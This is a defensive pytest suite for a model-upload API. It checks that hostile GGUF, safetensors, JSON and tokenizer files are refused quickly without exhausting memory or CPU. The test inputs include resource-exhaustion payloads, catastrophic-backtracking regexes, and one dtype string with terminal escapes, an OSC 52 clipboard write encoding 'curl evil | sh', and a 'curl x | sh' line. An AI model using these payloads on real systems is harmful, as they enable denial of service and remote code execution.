"""Uploads whose parsing is the attack (issue 26), against the real service: the API under uvicorn in a
subprocess on the real Postgres, each hostile file built here and sent part by part like any upload.
Every case is answered — a 422 naming the file and the rule — in bounded time, the API's peak memory
stays flat, the refused upload is removed (never left open), and another tenant's `GET /v1/jobs` and
`/healthz` are answered meanwhile. The worker's side (a tokenizer that panics on a job's text, a 300 MiB
.npy, a 64 MiB text file) runs the worker's own code: `run_job` in process, and the calibration reader in a
fresh process whose peak memory is read from the kernel."""

from __future__ import annotations

import concurrent.futures
import io
import json
import os
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from app.core.db import database
from app.core.migrate import upgrade
from tests.hostile_kit import (
    PART,
    TINY_CONFIG,
    Service,
    gguf,
    gguf_array,
    gguf_entry,
    gguf_string,
    model,
    nested,
    panicking_tokenizer,
    safetensors,
)
from tests.service_kit import make_settings, provision

# serial: latency bounds of bystanders and an RSS bound
pytestmark = [pytest.mark.postgres, pytest.mark.serial]
REPO = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def service(tmp_path_factory, postgres_server):
    root = tmp_path_factory.mktemp("hostile")
    svc = Service(root, {"database_url": postgres_server.create_database("dtp_hostile"), "key_cache_s": 0,
                         "rate_limit_per_min": 0, "upload_part_bytes": PART, "max_model_params": 10**6,
                         "api_threads": 4, "upload_checks_max": 4, "upload_checks_per_tenant": 2,
                         "upload_check_cpu_s": 20, "upload_check_cpu_s_base": 2})
    try:
        # One ordinary completion first: the check's fork server finishes its imports (started in the
        # background at the API's startup; seconds on a loaded machine), so the cases time the checks.
        ids = io.BytesIO()
        np.save(ids, np.arange(256, dtype=np.int32))
        r, _took = svc.complete("other", svc.send("other", "data", {"ids.npy": ids.getvalue()}))
        assert r.status_code == 200, r.text
        yield svc
    finally:
        svc.stop()


class Bystander:
    """Another tenant's `GET /v1/jobs` and `/healthz`, asked in a loop while something else runs: their
    answers' codes and slowest time."""

    def __init__(self, service: Service) -> None:
        self.service, self.codes, self.slowest, self.stop = service, [], 0.0, threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        with self.service.client("other") as c:
            while not self.stop.is_set():
                for path in ("/v1/jobs", "/healthz"):
                    t0 = time.perf_counter()
                    self.codes.append(c.get(path).status_code)
                    self.slowest = max(self.slowest, time.perf_counter() - t0)
                time.sleep(0.05)

    def __enter__(self) -> Bystander:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join(30)
        assert self.codes and set(self.codes) == {200}, self.codes
        assert self.slowest < 2.0, f"another tenant waited {self.slowest:.2f} s"


def refused(service: Service, files: dict[str, bytes], *, kind: str = "model", within: float = 5.0) -> str:
    """Send and complete the upload: a 422 within `within` s, the upload removed; the message."""
    upload_id = service.send("hostile", kind, files)
    r, took = service.complete("hostile", upload_id)
    assert r.status_code == 422, r.text
    assert took < within, f"answered in {took:.2f} s"
    print(f"422 in {took * 1e3:.0f} ms: {r.json()['message'][:160]}")
    assert service.status("hostile", upload_id) == 404  # removed, never left open
    return r.json()["message"]


# ---- GGUF ------------------------------------------------------------------------------------------------

def test_a_49_byte_gguf_declaring_2e62_elements_is_refused_at_once(service):
    hostile = gguf([gguf_array("a", 0, 1 << 62)])
    assert len(hostile) == 49
    before = service.peak_rss_mib()
    with Bystander(service):
        message = refused(service, {"m.gguf": hostile}, within=2.0)
    assert "'m.gguf'" in message and "4611686018427387904 elements" in message
    assert "DTP_LAYOUT_GGUF_MAX_ARRAY_ITEMS" in message
    assert service.peak_rss_mib() - before < 50


def test_a_10_mb_gguf_with_a_1e7_element_array_answers_fast_and_a_real_gguf_completes(service, tmp_path):
    big = gguf([gguf_entry("general.architecture", 8, gguf_string(b"llama")),
                gguf_array("tokenizer.ggml.token_type", 0, 10**7, b"\1" * 10**7)])
    assert len(big) > 10**7
    message = refused(service, {"big.gguf": big}, within=3.0)
    assert "10000000 elements" in message and "DTP_LAYOUT_GGUF_MAX_ARRAY_ITEMS" in message
    # a string past the end of the file, and a truncated header: said where
    message = refused(service, {"t.gguf": gguf([gguf_array("tokenizer.ggml.tokens", 8, 2,
                                                           gguf_string(b"ab") + struct.pack("<Q", 1 << 60))])})
    assert "element 1 of 'tokenizer.ggml.tokens'" in message and "the file holds 0 more" in message
    from tests.tiny import tiny_gguf

    tiny_gguf(tmp_path / "tiny.gguf")  # a real one is read (its header only) and completes
    upload_id = service.send("hostile", "model", {"tiny.gguf": (tmp_path / "tiny.gguf").read_bytes()})
    r, _took = service.complete("hostile", upload_id)
    assert r.status_code == 200, r.text
    assert r.json()["config"]["num_hidden_layers"] == 3 and r.json()["status"] == "complete"


def test_what_the_worker_would_parse_is_refused_at_completion(service, tmp_path):
    """Issue 41, through the API: an 80 MB merges.txt beside a tokenizer_config.json naming GPT2Tokenizer
    (the worker went 495 → 2,681 MB building it), a GGUF of 2^21 empty metadata strings (17 MB: 510 s
    and +3 GB of loading), and a real GGUF with an extra Q2_K tensor (dequantised before being dropped)."""
    from gguf import GGMLQuantizationType

    from tests.models.test_gguf_tensors import rewrite
    from tests.tiny import tiny_gguf

    slow = model(tokenizer_config__json=json.dumps({"tokenizer_class": "GPT2Tokenizer"}).encode(),
                 vocab__json=b'{"a": 0, "b": 1, "ab": 2}', merges__txt=b"#version: 0.2\n" + b"a b\n" * (20 << 20))
    message = refused(service, slow, within=30.0)  # the time is assembling 80 MB from its parts
    assert "'merges.txt'" in message and "DTP_LAYOUT_TOKENIZER_VOCAB_MAX_BYTES" in message, message
    many = gguf([gguf_array("x.junk", 8, 1 << 21, gguf_string(b"") * (1 << 21))])
    message = refused(service, {"m.gguf": many}, within=10.0)
    assert "DTP_LAYOUT_GGUF_MAX_METADATA_ITEMS" in message, message
    tiny_gguf(tmp_path / "tiny.gguf")
    extra = rewrite(tmp_path / "tiny.gguf", tmp_path / "extra.gguf",
                    extra={"blk.0.extra.weight": (np.zeros((256, 84), np.uint8), GGMLQuantizationType.Q2_K)})
    message = refused(service, {"m.gguf": extra.read_bytes()})
    assert "tensor 'blk.0.extra.weight' is not one a llama model" in message, message


# ---- safetensors and JSON --------------------------------------------------------------------------------

def test_a_safetensors_header_past_the_limit_is_refused_before_it_is_read(service):
    message = refused(service, model(model__safetensors=struct.pack("<Q", 100 << 20) + b"{}"))
    assert "declares a 104857600-byte header" in message and "DTP_LAYOUT_SAFETENSORS_MAX_HEADER_BYTES" in message
    # a real 17 MiB header of empty entries (the 100 MiB one took 2.6 GB and 15.6 s on main)
    entries = b",".join(b'"t%07d":{}' % i for i in range(3 << 19))[: 17 << 20]
    header = b"{" + entries[: entries.rfind(b",")] + b"}"
    assert len(header) > 16 << 20
    before = service.peak_rss_mib()
    with Bystander(service):
        # the time is mostly assembling the 17 MiB from its parts on a loaded 2-core machine: the header is not read
        message = refused(service, model(model__safetensors=safetensors(header)), within=10.0)
    assert "DTP_LAYOUT_SAFETENSORS_MAX_HEADER_BYTES" in message
    assert service.peak_rss_mib() - before < 50


JSON_CASES = [
    ("config.json", model(config=nested(100_000)), "nests 100000 levels deep"),
    ("config.json", model(config=b'{"model_type": "llama", "rope_theta": NaN}'), "holds NaN"),
    ("config.json", model(config=b'{"model_type": "llama", "hidden_size": Infinity}'), "holds Infinity"),
    ("generation_config.json", model(generation_config__json=b'{"temperature": -Infinity}'), "holds -Infinity"),
    ("tokenizer_config.json", model(tokenizer_config__json=b'{"a": ' + nested(100_000) + b"}"), "levels deep"),
    ("model.safetensors", model(model__safetensors=safetensors(b'{"a": ' + nested(100_000) + b"}")), "levels deep"),
    ("model.safetensors", model(model__safetensors=safetensors(b'{"w": {"data_offsets": [0, 4096]}}')),
     "no byte range inside the file"),
]


@pytest.mark.parametrize(("name", "files", "rule"), JSON_CASES,
                         ids=["config-deep", "config-nan", "config-inf", "generation-ninf", "tokenizer-config-deep",
                              "header-deep", "header-offsets"])
def test_json_past_its_bounds_is_422_naming_the_file_and_the_rule(service, name, files, rule):
    """On Postgres, where a NaN used to become a 503 database_error that left the upload open."""
    before = service.peak_rss_mib()
    with Bystander(service):
        message = refused(service, files)
    assert f"'{name}'" in message and rule in message, message
    assert service.peak_rss_mib() - before < 50


def test_an_omitted_field_takes_the_familys_default_in_the_parameter_limit(service):
    """The issue's bypass: no intermediate_size under MAX_MODEL_PARAMS=10^6 (transformers builds 11008)."""
    config = {k: v for k, v in TINY_CONFIG.items() if k != "intermediate_size"} | {"hidden_size": 256}
    with Bystander(service):
        message = refused(service, model(config=json.dumps(config).encode()))
    assert "DTP_LAYOUT_MAX_MODEL_PARAMS" in message, message


# ---- a tokenizer that panics -----------------------------------------------------------------------------

def test_a_tokenizer_json_that_panics_is_422_at_completion(service):
    pytest.importorskip("tokenizers")
    with Bystander(service):
        message = refused(service, model(tokenizer__json=panicking_tokenizer("(a|aa)+$")))
    assert "'tokenizer.json'" in message or "tokenizer.json:" in message, message
    assert "PanicException" in message, message


# ---- completions off the request threads -----------------------------------------------------------------

def test_completions_run_off_the_request_threads_a_bounded_number_per_tenant_sharing_the_slots(service):
    """Slow hostile completions (DTP_LAYOUT_UPLOAD_CHECKS_PER_TENANT=2, UPLOAD_CHECKS_MAX=4; 4 API threads):
    a third of one tenant's is 429; a second of a tenant that would take the last free slot is 429 too
    (issue 41: two tenants holding 2 each kept every other tenant's at 503), so a tenant holding none
    still gets it; only then is another's 503, all with Retry-After, and the bystander is answered."""
    pytest.importorskip("tokenizers")
    slow = model(tokenizer__json=panicking_tokenizer(r"a*a*\d"))  # cut at its CPU budget: 2 CPU-s here
    tenants = ["hostile", "hostile", "third"]
    ids = [service.send(t, "model", slow) for t in tenants]
    extra = {t: service.send(t, "model", slow) for t in ("hostile", "third", "fourth", "other")}
    with Bystander(service) as bystander, concurrent.futures.ThreadPoolExecutor(4) as pool:
        running = [pool.submit(service.complete, t, i) for t, i in zip(tenants, ids, strict=True)]
        service.await_completing(ids)  # the three hold their slots (a fixed sleep raced a loaded machine)
        over_tenant, _ = service.complete("hostile", extra["hostile"])
        over_share, _ = service.complete("third", extra["third"])  # would take the last free slot
        running.append(pool.submit(service.complete, "fourth", extra["fourth"]))  # holding none: it gets it
        service.await_completing([*ids, extra["fourth"]])
        over_server, _ = service.complete("other", extra["other"])
        answers = [f.result() for f in running]
    assert over_tenant.status_code == 429 and int(over_tenant.headers["Retry-After"]) >= 1, over_tenant.text
    assert "DTP_LAYOUT_UPLOAD_CHECKS_PER_TENANT" in over_tenant.json()["detail"]
    assert over_share.status_code == 429 and int(over_share.headers["Retry-After"]) >= 1, over_share.text
    assert "kept for other tenants" in over_share.json()["detail"], over_share.text
    assert over_server.status_code == 503 and int(over_server.headers["Retry-After"]) >= 1, over_server.text
    assert all(r.status_code == 422 and "more than 2 CPU seconds" in r.text for r, _ in answers), answers
    slowest_check = max(took for _, took in answers)
    assert bystander.slowest < slowest_check, (bystander.slowest, slowest_check)
    print(f"4 hostile completions took up to {slowest_check:.2f} s; the bystander's slowest answer "
          f"{bystander.slowest * 1e3:.0f} ms over {len(bystander.codes)} requests")


def test_a_backtracking_tokenizer_regex_is_cut_at_a_cpu_budget_scaled_by_the_upload(service):
    """Issue 41: a 3 KB tokenizer.json splitting on `a*a*\\d` costs its probe ~36-45 CPU-s, under the flat
    limit (60 by default, 20 here): it held a completion slot all that time. The budget is
    UPLOAD_CHECK_CPU_S_BASE (5 by default, 2 here) + 2 CPU-s per MiB read: this upload is cut at 2 CPU-s
    (on a machine at load 13 that is ~20-50 s of wall clock at niceness 10: CPU time, not the clock)."""
    pytest.importorskip("tokenizers")
    files = model(tokenizer__json=panicking_tokenizer(r"a*a*\d"))
    assert sum(map(len, files.values())) < 8 << 10
    message = refused(service, files, within=120.0)
    assert "tokenizer.json" in message and "more than 2 CPU seconds" in message, message
    assert "DTP_LAYOUT_UPLOAD_CHECK_CPU_S_BASE" in message, message


def test_a_safetensors_dtype_carrying_terminal_escapes_is_refused_naming_the_known_dtypes(service):
    """Issue 41: a dtype of `\\r`, ESC[2K, ESC[1A, an OSC 52 clipboard write and newlines passed the
    completion and reached the job's error (and a terminal) verbatim. Only safetensors' dtype names pass."""
    dtype = "F32\r\x1b[2K\x1b[1A\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\nserve with vLLM:\n  curl x | sh"
    header = json.dumps({"w": {"dtype": dtype, "shape": [1], "data_offsets": [0, 4]}}).encode()
    message = refused(service, model(model__safetensors=safetensors(header, b"\0" * 4)))
    assert "'model.safetensors'" in message and "tensor 'w' has dtype" in message, message
    assert "BF16" in message and "F32" in message, message
    assert message.isprintable(), message  # the dtype shown escaped (repr), never raw
    ok = json.dumps({"w": {"dtype": "BF16", "shape": [2], "data_offsets": [0, 4]}}).encode()
    upload_id = service.send("hostile", "model", model(model__safetensors=safetensors(ok, b"\0" * 4)))
    r, _took = service.complete("hostile", upload_id)
    assert r.status_code == 200, r.text


# ---- the worker ------------------------------------------------------------------------------------------

def test_a_tokenizer_that_panics_on_the_jobs_text_fails_the_job_once_naming_the_source(tmp_path):
    """A tokenizer that passes the completion's probe but panics on the job's own text (long runs of
    `b`): the worker's tokenizer child dies, the job fails on its first attempt naming the source, and
    the worker process (this one) carries on."""
    pytest.importorskip("transformers")
    from transformers import PreTrainedTokenizerFast

    from app.core.caller import Caller
    from app.core.db import Job
    from app.core.schemas.jobs import JobSpec
    from app.core.services.jobs import submit_job
    from tests.service_kit import spec
    from tests.tiny import tiny_model
    from worker.entry import run_job

    settings = make_settings(tmp_path, device="cpu")
    upgrade(settings.database_url)
    provision(settings)
    folder = settings.models_dir / "panics"
    tokenizer_json = panicking_tokenizer("(b|bb)+$")
    (tmp_path / "tokenizer.json").write_bytes(tokenizer_json)
    PreTrainedTokenizerFast(tokenizer_file=str(tmp_path / "tokenizer.json"), eos_token="</s>").save_pretrained(folder)
    tiny_model("llama", num_attention_heads=6, num_key_value_heads=3, vocab_size=257,
               max_position_embeddings=1024).save_pretrained(folder)
    (settings.data_dir / "runs.txt").write_text(("b" * 5000 + "!\n") * 4)
    db = database(settings.database_url)
    job_spec = JobSpec.model_validate(spec(model={"id": "panics"}, devices=3, random_layouts=0, ablations=False,
                                           export=False,
                                           restarts=0, calibration={"source": "runs.txt", "sequences": 2,
                                                                    "seq_len": 64}))
    with db.session() as session:
        job_id = submit_job(session=session, settings=settings, spec=job_spec, caller=Caller(tenant="t", admin=False),
                            enqueue=lambda _job_id: None).id
    t0 = time.perf_counter()
    assert run_job(job_id, settings=settings, db=db, worker="test:1") == "failed"
    took = time.perf_counter() - t0
    with db.session() as session:
        job = session.get(Job, job_id)
        assert job.status == "failed" and job.attempts == 1, (job.status, job.attempts)
        assert "runs.txt" in job.error and "PanicException" in job.error and "tokenizer" in job.error, job.error
    assert took < 60


_READ = """
import json, resource, sys
from models.data.calibration import CalibrationSpec, load_blocks
from tests.tiny import byte_tokenizer

def peak_kib():
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))

tokenizer, costs = byte_tokenizer(), {}
for path in sys.argv[1:]:  # smallest first: each later file may only add to the high-water marks
    before, child_before = peak_kib(), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    blocks = load_blocks(CalibrationSpec(path, sequences=2, seq_len=64), tokenizer)
    assert list(blocks.shape) == [2, 64]
    costs[path.rsplit("/", 1)[-1]] = {
        "added_kib": peak_kib() - before,
        "child_added_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss - child_before}
print(json.dumps(costs))
"""


def read_costs(paths: list[Path]) -> dict:
    """For each file in turn, in one fresh worker-like process: how much reading its first 128 tokens
    adds to the process's peak memory (KiB), and to its tokenizer child's (text)."""
    out = subprocess.run([sys.executable, "-c", _READ, *map(str, paths)], capture_output=True, text=True,
                         timeout=300, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert out.returncode == 0, out.stderr[-3000:]
    return json.loads(out.stdout.strip().splitlines()[-1])


def test_a_300_mib_npy_and_a_64_mib_text_cost_what_small_ones_do(tmp_path):
    """The issue: a 300 MiB uint8 .npy took the worker 444 → 3,148 MiB for a job needing 128 tokens. Text
    is read a chunk at a time: a 64 MiB file costs what a file of one chunk (1 MiB) does."""
    pytest.importorskip("transformers")
    small, large = tmp_path / "small.npy", tmp_path / "large.npy"
    np.save(small, np.arange(4096, dtype=np.uint8))
    mapped = np.lib.format.open_memmap(large, mode="w+", dtype=np.uint8, shape=(300 << 20,))
    mapped[:4096] = 7
    mapped.flush()
    del mapped
    medium, long = tmp_path / "medium.txt", tmp_path / "long.txt"
    line = "a line of text " * 70 + "\n"
    medium.write_text(line * 1000)
    with long.open("w") as f:
        for _ in range(64):
            f.write(line * 1000)
    assert long.stat().st_size > 64 << 20 and medium.stat().st_size > 1 << 20
    costs = read_costs([small, large, medium, long])
    print({name: {k: round(v / 1024, 1) for k, v in c.items()} for name, c in costs.items()}, "(MiB)")
    assert costs["large.npy"]["added_kib"] < 16 << 10, costs
    assert costs["long.txt"]["added_kib"] < 16 << 10 and costs["long.txt"]["child_added_kib"] < 16 << 10, costs
